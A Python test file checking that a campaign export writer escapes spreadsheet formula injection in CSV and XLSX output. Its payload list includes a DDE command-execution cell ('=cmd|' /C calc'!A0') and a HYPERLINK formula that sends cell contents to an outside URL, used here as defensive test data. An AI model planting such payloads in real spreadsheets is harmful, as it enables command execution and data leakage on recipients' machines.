"""No cell of a list runs in a spreadsheet, and none is lost on the way."""

import csv
import io

import openpyxl
import pytest

from campaigns.transfers.reading import tidy
from campaigns.transfers.writing import harmless, writer_of

FORMULAS = [
    "=1+1",
    '=HYPERLINK("https://example.org/?"&A1,"x")',
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "=cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "﹦1",
    "−1+1",
    "\tMila",
]
HARMLESS = ["Mila", "O'Neill", "1=1", "a@example.org", "12-14", "", "'t Hooft", "José", "王"]
PHONE = "+442079460018"


def written(format: str, *rows: list[str]) -> bytes:
    file = io.BytesIO()
    with writer_of(format, file) as write:
        for row in rows:
            write(row)
    return file.getvalue()


@pytest.mark.parametrize("text", FORMULAS)
def test_what_a_spreadsheet_would_run_is_text_in_csv(text):
    content = written("CSV", ["x", text]).decode("utf-8-sig")
    [[_x, cell]] = csv.reader(io.StringIO(content, newline=""), delimiter=";")
    assert cell == f"'{text}"


@pytest.mark.parametrize("text", HARMLESS)
def test_what_runs_nowhere_stays_as_it_is(text):
    assert harmless(text) == text


@pytest.mark.parametrize("text", [*FORMULAS, *HARMLESS, PHONE])
def test_every_cell_of_a_workbook_is_typed_as_text(text):
    content = written("XLSX", ["heading"], [text])
    cell = openpyxl.load_workbook(io.BytesIO(content)).active["A2"]
    assert cell.data_type in {"s", "inlineStr"} or (text == "" and cell.value is None)
    assert cell.quotePrefix
    assert (cell.value or "").replace("\r", "\n") == text.replace("\r", "\n")


def test_a_workbook_takes_letters_that_xml_does_not():
    content = written("XLSX", ['a\x00b\x1fc\ufffe<&>"'])
    assert openpyxl.load_workbook(io.BytesIO(content)).active["A1"].value == 'abc<&>"'


def test_a_phone_number_survives_the_way_out_and_in():
    content = written("CSV", [PHONE]).decode("utf-8-sig")
    [[cell]] = csv.reader(io.StringIO(content))
    assert tidy([cell]) == [PHONE]
